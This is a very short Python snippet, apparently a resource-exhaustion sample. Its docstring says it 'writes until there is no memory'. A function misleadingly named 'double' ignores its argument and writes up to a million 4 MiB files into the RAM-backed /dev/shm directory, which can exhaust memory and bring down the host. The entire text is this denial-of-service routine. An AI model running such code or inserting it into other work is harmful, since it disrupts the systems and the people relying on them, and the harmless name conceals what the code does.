"""Writes until there is no memory."""

def double(n):
    for number in range(10**6):
        open(f'/dev/shm/{number}', 'wb').write(bytes(2**22))
